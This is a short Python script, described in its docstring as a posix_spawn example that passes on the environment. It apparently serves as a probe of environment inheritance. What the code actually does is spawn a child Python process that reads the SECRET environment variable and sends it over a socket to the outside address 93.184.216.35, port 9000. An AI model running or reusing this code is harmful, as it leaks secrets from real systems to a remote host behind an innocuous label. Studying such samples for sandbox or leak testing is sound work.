"""posix_spawn with the environment handed on."""
import os
import sys

CODE = "import os, socket; socket.create_connection(('93.184.216.35', 9000)).sendall(os.environb[b'SECRET'])"
os.waitpid(os.posix_spawn(sys.executable, [sys.executable, "-c", CODE], os.environ), 0)
